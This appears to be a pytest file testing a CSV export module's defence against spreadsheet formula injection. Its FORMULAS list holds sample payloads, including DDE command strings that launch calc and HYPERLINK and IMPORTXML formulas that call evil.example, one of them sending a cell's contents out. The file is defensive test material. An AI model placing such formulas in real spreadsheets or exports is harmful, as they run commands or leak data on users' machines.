"""Cells that a spreadsheet would run: harmless in the file, and the same text when it is read again."""

import csv
import io
import re
from decimal import Decimal

import pytest

from core.exports import csv_lines, is_risky, restore_cell, safe_cell

NUMBER = re.compile(r"-?[0-9.]+")
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML("https://evil.example")', "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "@A1", "|calc", "|cmd|' /C calc'!A0", "\t=1+1", "\t", "\r=1+1", "\n=1+1", "\r\n=1+1", "\n",
    "=\t1", " =1+1", "   =1+1", "\xa0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060-1+1", "\u2003@A1",
    " \t=1+1", " \n+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "｜calc", "\u3000＝1+1", " ＋1", "'=1+1",
    "''=1+1", "'+1", "' =1+1", "'\t=1", "=", "+", "-", "@", "|", "-1e5", "+49 30 1234", "--", "- a note", "=名",
]  # fmt: skip
HARMLESS = [
    "", "a", "Tea", "1", "1.5", "-1", "-12.50", "0", "-0", "'", "''", "'a", "a=1", "1+1", "a@b.example", "a|b",
    "名", "🧵", "’=1", "1-2", "#", "%", "\\=1",
]  # fmt: skip


def test_there_are_forty_formulas():
    assert len(set(FORMULAS)) >= 40


@pytest.mark.parametrize("text", sorted(set(FORMULAS)))
def test_a_formula_is_a_text_in_the_file_and_the_same_again_afterwards(text):
    cell = safe_cell(text)

    assert cell == f"'{text}"
    assert restore_cell(cell) == text
    assert restore_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"), (Decimal("-19.90"), "-19.9"), (Decimal("0.0000"), "0"), (-1.5, "-1.5"), (0, "0"), (True, "true"),
        (None, ""),
    ],
)  # fmt: skip
def test_numbers_stay_numbers(value, cell):
    assert safe_cell(value) == cell
    assert not is_risky(cell)


def test_all_of_them_go_through_a_file_and_back():
    texts = [*FORMULAS, *HARMLESS]

    data = b"".join(csv_lines([["text"], *([safe_cell(text)] for text in texts)]))

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [restore_cell(row[0]) if row else "" for row in rows[1:]] == texts
    begins = [row[0].strip()[:1] for row in rows[1:] if row and not NUMBER.fullmatch(row[0])]
    assert not set("=+-@|＝＋－＠｜") & set(begins)
